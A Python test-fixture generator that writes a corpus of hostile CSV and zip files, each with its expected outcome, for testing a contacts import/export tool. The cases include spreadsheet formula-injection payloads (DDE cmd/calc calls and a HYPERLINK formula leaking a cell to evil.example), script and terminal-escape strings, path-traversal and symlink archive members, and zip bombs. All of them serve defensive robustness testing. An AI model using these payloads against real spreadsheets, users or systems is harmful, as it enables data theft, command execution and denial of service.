"""Generate the hostile-input corpus: files an import or an export must survive.

``python tests/corpus/make_corpus.py OUT_DIR`` (or :func:`write_case` per case) writes each file
and, beside it, ``<name>.expected.json``. Every case declares its outcome:

* ``error``: unusable input. The run must stop with an :class:`etl.errors.InputError` whose
  one-line message matches this regular expression (the CLI prints it and exits 2);
* otherwise row accounting: ``rows_read`` and ``rejects`` (reason code -> rows) of the import,
  or, for an export archive (``kind="archive"``), the ``.csv`` members extracted.

Never a traceback, a hang, or memory beyond the limit: ``heavy`` cases (100 MB lines, a
million-column header, a 200 MB zip bomb) are run in a subprocess with an address-space cap.
Nothing large is committed: everything is generated at test time into a temporary directory.
"""

from __future__ import annotations

import codecs
import gzip
import io
import json
import os
import random
import struct
import sys
import warnings
import zipfile
from collections.abc import Callable
from dataclasses import asdict, dataclass, field
from pathlib import Path
from typing import Any

from etl.brevo.models import Attribute, EnumValue

ATTRIBUTES: tuple[Attribute, ...] = (
    Attribute("EMAIL", "normal", "text"),
    Attribute("SMS", "normal", "text"),
    Attribute("FIRSTNAME", "normal", "text"),
    Attribute("LASTNAME", "normal", "text"),
    Attribute("BIRTHDAY", "normal", "date"),
    Attribute("GENDER", "category", "category", (EnumValue(1, "Mr"), EnumValue(2, "Ms"))),
    Attribute("NEWSLETTER", "normal", "boolean"),
)

HEADER = "Email,First name,Last name"
MB = 1 << 20
# Cells a spreadsheet would run as a formula (OWASP CSV injection), ASCII and full-width.
FORMULAS = (
    "=cmd|' /C calc'!A0",
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\uff1d1+1",
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
)


@dataclass(frozen=True)
class Case:
    """One hostile file and what must come of it."""

    name: str
    description: str
    build: Callable[[Path], None] = field(repr=False)
    kind: str = "import"  # import | archive
    error: str | None = None
    rows_read: int | None = None
    rejects: dict[str, int] | None = None
    rows_sent: int | None = None
    reasons: tuple[str, ...] | None = None  # when rejects vary: the only reasons allowed
    extracted: tuple[str, ...] | None = None
    options: dict[str, Any] = field(default_factory=dict)
    heavy: bool = False

    @property
    def exit_code(self) -> int:
        """What ``contacts-etl import`` must exit with (0: rejects never fail a run)."""
        return 2 if self.error else 0

    def expected(self) -> dict[str, Any]:
        """The declared outcome, as written beside the file."""
        data = {k: v for k, v in asdict(self).items() if k != "build" and v is not None}
        data["exit_code"] = self.exit_code
        return data


CASES: list[Case] = []


def case(name: str, description: str, **kw: Any) -> Callable[[Callable[[Path], None]], None]:
    """Register a builder under ``name``."""

    def register(build: Callable[[Path], None]) -> None:
        CASES.append(Case(name=name, description=description, build=build, **kw))

    return register


def data_case(name: str, description: str, data: bytes, **kw: Any) -> None:
    """Register a case whose file is ``data``."""
    CASES.append(
        Case(name=name, description=description, build=lambda p: p.write_bytes(data), **kw)
    )


def rows(n: int, *, prefix: str = "r", sep: str = ",", eol: str = "\n") -> str:
    """``n`` good rows."""
    return "".join(f"{prefix}{i}@example.com{sep}First{i}{sep}Last{i}{eol}" for i in range(n))


def good(n: int = 3, *, sep: str = ",", eol: str = "\n") -> str:
    """A small good file as text."""
    return HEADER.replace(",", sep) + eol + rows(n, sep=sep, eol=eol)


# ---------------------------------------------------------------------------- encodings

data_case(
    "enc_overlong_utf8.csv",
    "overlong UTF-8 sequences (C0 AF) in a name: not UTF-8, read as Windows-1252",
    (HEADER + "\na@example.com,Ann\xc0\xaf,X\nb@example.com,Bob,Y\n").encode("latin-1"),
    rows_read=2,
    rejects={},
)
data_case(
    "enc_utf8_encoded_surrogate.csv",
    "a UTF-16 surrogate encoded in UTF-8 (ED A0 80): invalid UTF-8",
    HEADER.encode() + b"\na@example.com,Ann\xed\xa0\x80,X\n",
    rows_read=1,
    rejects={},
)
data_case(
    "enc_cp1252_undefined_byte.csv",
    "0x81 (undefined in Windows-1252) forces the Latin-1 fallback",
    HEADER.encode() + b"\na@example.com,An\x81n,X\nb@example.com,Zo\xeb,Y\n",
    rows_read=2,
    rejects={},
)
data_case(
    "enc_utf16_odd_length.csv",
    "UTF-16 LE with a BOM and a dangling odd byte",
    codecs.BOM_UTF16_LE + good().encode("utf-16-le") + b"\x00\x41\x00",
    error=r"cannot be decoded",
)
data_case(
    "enc_utf16_lone_surrogate.csv",
    "UTF-16 LE with a BOM and an unpaired high surrogate",
    codecs.BOM_UTF16_LE + good().encode("utf-16-le") + b"\x00\xd8a\x00\n\x00",
    error=r"cannot be decoded",
)
data_case(
    "enc_utf32_be_bom.csv",
    "UTF-32 big-endian with its BOM",
    codecs.BOM_UTF32_BE + good().encode("utf-32-be"),
    rows_read=3,
    rejects={},
)
data_case(
    "enc_double_bom.csv",
    "two UTF-8 BOMs before the header (a file concatenated by a tool)",
    codecs.BOM_UTF8 + codecs.BOM_UTF8 + good().encode(),
    rows_read=3,
    rejects={},
)
data_case(
    "enc_ebcdic.csv",
    "EBCDIC (cp500) text: decodes as Windows-1252 garbage without an identifier column",
    good().encode("cp500"),
    error=r"identifier|EMAIL|SMS|no header|binary",
)
data_case(
    "enc_shift_jis_names.csv",
    "Shift-JIS names (ASCII emails): not UTF-8, read with a legacy fallback",
    (HEADER + "\na@example.com,山田,太郎\nb@example.com,鈴木,花子\n").encode("shift_jis"),
    rows_read=2,
    rejects={},
)
data_case(
    "enc_mixed_utf8_and_cp1252.csv",
    "a UTF-8 header and row, then a Windows-1252 row",
    (HEADER + "\na@example.com,Zoë,X\n").encode() + "b@example.com,Zoë,Y\n".encode("cp1252"),
    rows_read=2,
    rejects={},
)

# ---------------------------------------------------------------------------- dialects

data_case(
    "dia_bom_then_sep_line.csv",
    "a BOM, Excel's sep=; line, then ; data",
    codecs.BOM_UTF8 + b"sep=;\r\n" + good(sep=";", eol="\r\n").encode(),
    rows_read=3,
    rejects={},
)
data_case(
    "dia_sep_line_lies.csv",
    "sep=, announced, but the file is ;-separated: one column, no identifier",
    b"sep=,\n" + good(sep=";").encode(),
    error=r"identifier|EMAIL",
)
data_case(
    "dia_cr_only_with_quoted_cr.csv",
    "old-Mac CR line ends, and a CR inside a quoted field",
    (HEADER + '\ra@example.com,"An\rn",X\rb@example.com,Bob,Y\r').encode(),
    rows_read=2,
    rejects={},
)
data_case(
    "dia_every_delimiter_in_header.csv",
    "a header holding all four delimiters; the data is tab-separated",
    b"Email\tFirst name, (a;b|c)\tLast name\n" + rows(3, sep="\t").encode(),
    rows_read=3,
    rejects={},
)
data_case(
    "dia_runs_of_line_breaks.csv",
    "rows separated by runs of CR, LF and CRLF: blank lines are not rows",
    (HEADER + "\r\r\r\n\n" + "\r\n\r\n\n".join(rows(3).splitlines()) + "\n\n\n").encode(),
    rows_read=3,
    rejects={},
)
data_case(
    "dia_semicolon_with_commas_in_names.csv",
    "; separated, unquoted commas inside names",
    b"Email;First name;Last name\na@example.com;Ann, the first;X\nb@example.com;Bob,,;Y\n",
    rows_read=2,
    rejects={},
)

# ---------------------------------------------------------------------------- quoting


@case(
    "quo_unterminated_swallows_the_rest.csv",
    "a quote opened on line 2 and never closed swallows 5000 lines into one bad row",
    rows_read=2,
    rejects={"invalid_email": 1},
)
def _(path: Path) -> None:
    path.write_text(HEADER + "\nok@example.com,Ok,Y\n" + '"' + rows(5000), encoding="utf-8")


data_case(
    "quo_quote_bomb.csv",
    "a field of 200 000 doubled quotes",
    (HEADER + '\na@example.com,"' + '""' * 100_000 + '",X\n').encode(),
    rows_read=1,
    rejects={},
)
data_case(
    "quo_stray_quotes.csv",
    'stray quotes mid-field and after a closing quote (ab"c, "a"b)',
    (HEADER + '\na@example.com,ab"c"d,X\nb@example.com,"B"ob,Y\n').encode(),
    rows_read=2,
    rejects={},
)
data_case(
    "quo_backslash_escapes.csv",
    'MySQL-style \\" escapes, which CSV does not know',
    (HEADER + '\na@example.com,"Ann \\"the\\" first",X\nb@example.com,Bob,Y\n').encode(),
    rows_read=2,
)
data_case(
    "quo_embedded_csv.csv",
    "a quoted field holding 1000 lines of another CSV",
    (HEADER + '\na@example.com,"' + rows(1000).replace('"', '""') + '",X\n').encode(),
    rows_read=1,
    rejects={},
)
data_case(
    "quo_space_before_quote.csv",
    "a space before the opening quote: the quotes are data, the comma splits",
    (HEADER + '\na@example.com, "Ann, A",X\n').encode(),
    rows_read=1,
    rejects={"malformed_row": 1},
)

# ---------------------------------------------------------------------------- control characters

data_case(
    "ctl_nul_in_email.csv",
    "a NUL byte inside an email",
    (HEADER + "\na\x00b@example.com,Ann,X\nc@example.com,Cy,Y\n").encode(),
    rows_read=2,
    rejects={"invalid_email": 1},
)
data_case(
    "ctl_ansi_escapes.csv",
    "ANSI terminal escapes in names (terminal injection)",
    (HEADER + "\na@example.com,\x1b[31mAnn\x1b[0m,\x1b]0;pwned\x07\n").encode(),
    rows_read=1,
)
data_case(
    "ctl_c1_and_del.csv",
    "DEL and C1 control characters in names",
    (HEADER + "\na@example.com,A\x7fn\u0085n,\u009bX\n").encode(),
    rows_read=1,
)
data_case(
    "ctl_bidi_override_email.csv",
    "a right-to-left override inside an email",
    (HEADER + "\na\u202eb@example.com,Ann,X\nc@example.com,Cy,Y\n").encode(),
    rows_read=2,
    rejects={"invalid_email": 1},
)
data_case(
    "ctl_zero_width_email.csv",
    "a zero-width space inside an email",
    (HEADER + "\na\u200b@example.com,Ann,X\nc@example.com,Cy,Y\n").encode(),
    rows_read=2,
    rejects={"invalid_email": 1},
)
data_case(
    "ctl_unicode_line_separators.csv",
    "U+2028, U+2029 and NEL inside fields are not line breaks",
    (HEADER + "\na@example.com,A\u2028n\u2029n,X\u0085Y\nb@example.com,Bob,Y\n").encode(),
    rows_read=2,
    rejects={},
)
data_case(
    "ctl_vt_ff.csv",
    "vertical tab and form feed between fields",
    (HEADER + "\na@example.com,\x0bAnn\x0c,X\n").encode(),
    rows_read=1,
)
data_case(
    "ctl_mostly_control_bytes.csv",
    "a third of the bytes are control characters: binary",
    bytes(random.Random(1).choice(b"\x01\x02\x03\x04\x05abc,\n") for _ in range(20_000)),
    error=r"binary",
)

# ---------------------------------------------------------------------------- structure

data_case("str_empty.csv", "zero bytes", b"", error=r"empty")
data_case("str_only_bom.csv", "a BOM and nothing else", codecs.BOM_UTF8, error=r"empty")
data_case(
    "str_header_only_no_newline.csv",
    "a header and nothing else, no line end",
    codecs.BOM_UTF8 + HEADER.encode(),
    rows_read=0,
    rejects={},
)
data_case(
    "str_only_delimiters.csv",
    "a header of empty cells",
    b",,,\n,,,\n",
    error=r"identifier|EMAIL|no header",
)
data_case(
    "str_blank_lines_past_the_sniff_window.csv",
    "300 KB of blank lines before the header",
    b"\n" * 300_000 + good().encode(),
    error=r"no header row",
)
data_case(
    "str_many_blank_lines_between_rows.csv",
    "100 000 blank lines between two rows",
    (HEADER + "\na@example.com,A,B\n" + "\n" * 100_000 + "b@example.com,C,D\n").encode(),
    rows_read=2,
    rejects={},
)
data_case(
    "str_internal_column_names.csv",
    "headers named like the pipeline's own columns (_line, _identifier, reason, raw, _raw:...)",
    (
        b"Email,_line,_identifier,reason,message,raw,_raw:Email,source_file\n"
        b"a@example.com,1,x,r,m,w,q,s\nbad,2,y,r,m,w,q,s\n"
    ),
    rows_read=2,
    rejects={"invalid_email": 1},
)
data_case(
    "str_numbered_duplicate_headers.csv",
    'headers that collide with the names given to duplicates ("Email (2)")',
    b"Email,Notes (2),Notes,Notes\na@example.com,1,2,3\n",
    rows_read=1,
    rejects={},
)
data_case(
    "str_long_header_cell.csv",
    "a 100 000-character header cell",
    ("Email," + "N" * 100_000 + "\na@example.com,x\n").encode(),
    rows_read=1,
    rejects={},
)
data_case(
    "str_two_thousand_columns.csv",
    "2000 columns beside Email",
    (
        "Email,"
        + ",".join(f"c{i}" for i in range(2000))
        + "\n"
        + "a@example.com,"
        + ",".join("v" for _ in range(2000))
        + "\n"
    ).encode(),
    rows_read=1,
    rejects={},
)
data_case(
    "str_too_many_columns.csv",
    "20 000 columns: wider than Excel allows, refused before any work",
    ("Email," + ",".join(f"c{i}" for i in range(20_000)) + "\na@example.com\n").encode(),
    error=r"more than 16384 columns",
)
data_case(
    "str_row_with_200k_fields.csv",
    "one data row with 200 000 fields",
    (HEADER + "\na@example.com" + ",x" * 200_000 + "\nb@example.com,B,C\n").encode(),
    rows_read=2,
    rejects={"malformed_row": 1},
)


@case(
    "str_row_too_large.csv",
    "a 12 MB quoted field: larger than any import body may be",
    rows_read=2,
    rejects={"row_too_large": 1},
)
def _(path: Path) -> None:
    with path.open("w", encoding="utf-8", newline="") as fh:
        fh.write(HEADER + '\na@example.com,"')
        fh.write(("x, y\n" * (12 * MB // 5)).replace('"', '""'))
        fh.write('",X\nb@example.com,B,C\n')


@case(
    "str_100mb_single_line.csv",
    "100 MB without a line break: no usable header",
    error=r"identifier|EMAIL|no header|64 MiB",
    heavy=True,
)
def _(path: Path) -> None:
    with path.open("wb") as fh:
        fh.write(b"Email,")
        for _ in range(100):
            fh.write(b"x" * MB)


@case(
    "str_100mb_data_line.csv",
    "a header, then a 100 MB line: a record over 64 MiB stops the run",
    error=r"64 MiB",
    heavy=True,
)
def _(path: Path) -> None:
    with path.open("wb") as fh:
        fh.write(HEADER.encode() + b"\na@example.com,")
        for _ in range(100):
            fh.write(b"y" * MB)
        fh.write(b",Z\n")


@case(
    "str_million_columns_header.csv",
    "a header of a million columns (Email first) and two rows",
    error=r"more than 16384 columns",
    heavy=True,
)
def _(path: Path) -> None:
    with path.open("w", encoding="utf-8") as fh:
        fh.write("Email," + ",".join(f"c{i}" for i in range(1, 1_000_000)) + "\n")
        fh.write("a@example.com" + ",v" * 999_999 + "\n")
        fh.write("b@example.com\n")


# ---------------------------------------------------------------------------- injection


@case(
    "inj_formulas.csv",
    "formula payloads in names and in rejected emails",
    rows_read=2 * len(FORMULAS),
    rejects={"invalid_email": len(FORMULAS)},
)
def _(path: Path) -> None:
    import csv

    with path.open("w", encoding="utf-8", newline="") as fh:
        writer = csv.writer(fh)
        writer.writerow(HEADER.split(","))
        for i, formula in enumerate(FORMULAS):
            writer.writerow([f"f{i}@example.com", formula, formula])
            writer.writerow([formula, formula, f"bad{i}"])


data_case(
    "inj_html_script.csv",
    "HTML and script in names",
    (
        HEADER + '\na@example.com,<script>alert(1)</script>,"<img src=x onerror=alert(1)>"\n'
    ).encode(),
    rows_read=1,
    rejects={},
)
data_case(
    "inj_body_separator_in_values.csv",
    'values holding the body separator, quotes and line breaks (;, ", CR, LF)',
    (HEADER + '\na@example.com,"a;b""c\r\nd",";;"\nb@example.com,";",""""\n').encode(),
    rows_read=2,
    rejects={},
)
data_case(
    "inj_separator_in_header.csv",
    "a header cell holding the body separator and a quote",
    b'Email,"X;EMAIL","Y""Z"\na@example.com,1,2\n',
    rows_read=1,
    rejects={},
)
data_case(
    "inj_newline_in_header_strict.csv",
    "an unknown header with a line break in it, with --strict: the message stays one line",
    b'Email,"Evil\nheader"\na@example.com,1\n',
    options={"strict": True},
    error=r"unknown attributes",
)
data_case(
    "inj_path_values.csv",
    "path traversal strings and NUL-terminated names as values",
    (
        HEADER + "\na@example.com,../../etc/passwd,C:\\Windows\\x\nb@example.com,/dev/zero,%00\n"
    ).encode(),
    rows_read=2,
    rejects={},
)


@case(
    "=HYPERLINK(evil).csv",
    "a file name that is a formula: the rejects file's source_file cell is neutralised",
    rows_read=2,
    rejects={"invalid_email": 1},
)
def _(path: Path) -> None:
    path.write_text(HEADER + "\na@example.com,A,B\nnot-an-email,C,D\n", encoding="utf-8")


# ---------------------------------------------------------------------------- binary content


def _gzip_csv() -> bytes:
    return gzip.compress(good(200).encode(), mtime=0)


def _zip_bytes(members: list[tuple[str, bytes]]) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members:
            archive.writestr(name, data)
    return buf.getvalue()


data_case("bin_gzip.csv", "a gzip-compressed CSV", _gzip_csv(), error=r"binary.*gzip")
data_case(
    "bin_truncated_gzip.csv.gz",
    "a gzip-compressed CSV cut in half",
    _gzip_csv()[: len(_gzip_csv()) // 2],
    error=r"binary.*gzip",
)
data_case(
    "bin_xlsx.csv",
    "a workbook saved with a .csv name",
    _zip_bytes([("[Content_Types].xml", b"<Types/>"), ("xl/workbook.xml", b"<workbook/>")]),
    error=r"binary.*ZIP",
)
data_case(
    "bin_png.csv", "a PNG image", b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 8, error="binary"
)
data_case(
    "bin_pdf.csv", "a PDF", b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<<>>\nendobj\n", error="binary"
)
data_case("bin_elf.csv", "an executable", b"\x7fELF\x02\x01\x01" + bytes(500), error="binary")
data_case(
    "bin_sqlite.csv", "an SQLite database", b"SQLite format 3\x00" + bytes(4096), error="binary"
)
data_case("bin_parquet.csv", "a Parquet file", b"PAR1" + bytes(300) + b"PAR1", error="binary")
data_case(
    "bin_random.csv",
    "64 KB of random bytes",
    random.Random(7).randbytes(64 * 1024),
    error=r"binary|cannot be decoded|identifier|EMAIL|no header",
)
data_case(
    "bin_text_then_binary.csv",
    "300 KB of good rows, then 64 KB of binary garbage: the garbage is rejected row by row",
    good(10_000).encode() + random.Random(9).randbytes(64 * 1024),
    rows_sent=10_000,
    reasons=("invalid_email", "malformed_row", "missing_identifier"),
)


@case("bin_fifo.csv", "a named pipe: reading it would block forever", error=r"not a regular file")
def _(path: Path) -> None:
    os.mkfifo(path)


@case("bin_directory.csv", "a directory named like a CSV file", error=r"directory")
def _(path: Path) -> None:
    path.mkdir()


# ---------------------------------------------------------------------------- export archives
# A skipFilesMerge export is a zip that Brevo (or whoever sits in the middle) hands over: every
# member is untrusted. Refused archives leave nothing behind.

PART = b"EMAIL;FIRSTNAME\na@example.com;Ann\n"


def _raw_zip(path: Path, members: list[tuple[zipfile.ZipInfo | str, bytes]]) -> bytes:
    buf = io.BytesIO()
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # a duplicate member name is the point of one case
        with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as archive:
            for info, data in members:
                archive.writestr(info, data)
    path.write_bytes(buf.getvalue())
    return buf.getvalue()


def archive_case(name: str, description: str, members: list[tuple[Any, bytes]], **kw: Any) -> None:
    """Register an archive made of ``members``."""
    CASES.append(
        Case(
            name=name,
            description=description,
            build=lambda p: _raw_zip(p, members),
            kind="archive",
            **kw,
        )
    )


archive_case(
    "zip_ok_parts.zip",
    "three parts, a README and a directory entry: only the CSV parts come out",
    [("p2.csv", PART), ("README.txt", b"x"), ("p1.csv", PART), ("d/", b""), ("d/p3.csv", PART)],
    extracted=("d/p3.csv", "p1.csv", "p2.csv"),
)
archive_case("zip_slip.zip", "../ in a member name", [("../evil.csv", PART)], error="escapes")
archive_case(
    "zip_slip_nested.zip",
    "a/../../ in a member name",
    [("a/../../evil.csv", PART)],
    error="escapes",
)
archive_case(
    "zip_absolute.zip", "an absolute member path", [("/tmp/evil.csv", PART)], error="absolute"
)
archive_case(
    "zip_drive_letter.zip", "a Windows drive letter", [("C:/evil.csv", PART)], error="absolute"
)
archive_case(
    "zip_backslash.zip", "backslashes in a member name", [("..\\evil.csv", PART)], error="backslash"
)


def _symlink_info() -> zipfile.ZipInfo:
    info = zipfile.ZipInfo("link.csv")
    info.external_attr = (0o120777 << 16) | 0
    return info


archive_case(
    "zip_symlink.zip",
    "a member that is a symbolic link to /etc/passwd",
    [(_symlink_info(), b"/etc/passwd")],
    error="symbolic link",
)
archive_case(
    "zip_duplicate_names.zip",
    "the same member name twice (the second would overwrite the first)",
    [("a.csv", PART), ("a.csv", PART + b"b@example.com;Bob\n")],
    error="twice",
)
archive_case(
    "zip_too_many_members.zip",
    "1001 members",
    [(f"p{i:04d}.csv", PART) for i in range(1001)],
    error="members",
)
data_case(
    "zip_not_a_zip.zip",
    "an HTML error page served as the archive",
    b"<html><body>502 Bad Gateway</body></html>",
    kind="archive",
    error="not a readable zip",
)


@case("zip_truncated.zip", "an archive cut in half", kind="archive", error="not a readable zip")
def _(path: Path) -> None:
    whole = _raw_zip(path, [(f"p{i}.csv", PART * 500) for i in range(4)])
    path.write_bytes(whole[: len(whole) // 2])


@case(
    "zip_bomb_200mb.zip",
    "200 MB of zeros compressed about 1000:1",
    kind="archive",
    error="ratio|zip bomb",
    heavy=True,
)
def _(path: Path) -> None:
    with (
        zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive,
        archive.open("bomb.csv", "w", force_zip64=True) as member,
    ):
        block = b"0" * MB
        for _ in range(200):
            member.write(block)


@case(
    "zip_bomb_lying_header.zip",
    "a member whose header claims 1 KB but that inflates to 50 MB",
    kind="archive",
    error="larger than its header|truncated or corrupt|zip bomb",
)
def _(path: Path) -> None:
    data = bytearray(_raw_zip(path, [("a.csv", b"z" * (50 * MB))]))
    central = data.index(b"PK\x01\x02")
    struct.pack_into("<I", data, central + 24, 1024)  # uncompressed size, central directory
    struct.pack_into("<I", data, 22, 1024)  # and in the local header
    path.write_bytes(bytes(data))


@case(
    "zip_overlapping_entries.zip",
    "two members sharing the same compressed bytes (a non-recursive zip bomb)",
    kind="archive",
    error="corrupt|overlap|twice|ratio",
)
def _(path: Path) -> None:
    data = bytearray(_raw_zip(path, [("a.csv", PART * 1000)]))
    central = data.index(b"PK\x01\x02")
    end = data.index(b"PK\x05\x06")
    entry = bytes(data[central:end])
    second = bytearray(entry)
    name_at = 46
    second[name_at : name_at + 5] = b"b.csv"
    directory = entry + bytes(second)
    eocd = bytearray(data[end:])
    struct.pack_into("<HH", eocd, 8, 2, 2)  # entries on disk, total entries
    struct.pack_into("<I", eocd, 12, len(directory))
    path.write_bytes(bytes(data[:central]) + directory + bytes(eocd))


@case("zip_encrypted_flag.zip", "a member flagged as encrypted", kind="archive", error="encrypted")
def _(path: Path) -> None:
    data = bytearray(_raw_zip(path, [("secret.csv", PART)]))
    data[6] |= 0x1  # general purpose flags of the local header
    central = data.index(b"PK\x01\x02")
    data[central + 8] |= 0x1  # and of the central directory entry
    path.write_bytes(bytes(data))


archive_case(
    "zip_nested_zip.zip",
    "a zip inside the zip (not unpacked: only .csv members are)",
    [("inner.zip", _zip_bytes([("x.csv", PART)])), ("p.csv", PART)],
    extracted=("p.csv",),
)


# ---------------------------------------------------------------------------- writing


def find(name: str) -> Case:
    """The case called ``name``."""
    for c in CASES:
        if c.name == name:
            return c
    raise KeyError(name)


def write_case(c: Case, directory: Path) -> Path:
    """Write the file of ``c`` and its ``.expected.json`` into ``directory``; return the file."""
    directory.mkdir(parents=True, exist_ok=True)
    path = directory / c.name
    c.build(path)
    (directory / f"{c.name}.expected.json").write_text(
        json.dumps(c.expected(), indent=2, sort_keys=True), encoding="utf-8"
    )
    return path


def main(argv: list[str]) -> int:
    """Write every case (``--light``: skip the heavy ones) into the directory given."""
    if not argv:
        print("usage: make_corpus.py OUT_DIR [--light]", file=sys.stderr)
        return 2
    out = Path(argv[0])
    for c in CASES:
        if "--light" in argv and c.heavy:
            continue
        write_case(c, out)
    print(f"{len(CASES)} cases in {out}")
    return 0


if __name__ == "__main__":
    raise SystemExit(main(sys.argv[1:]))
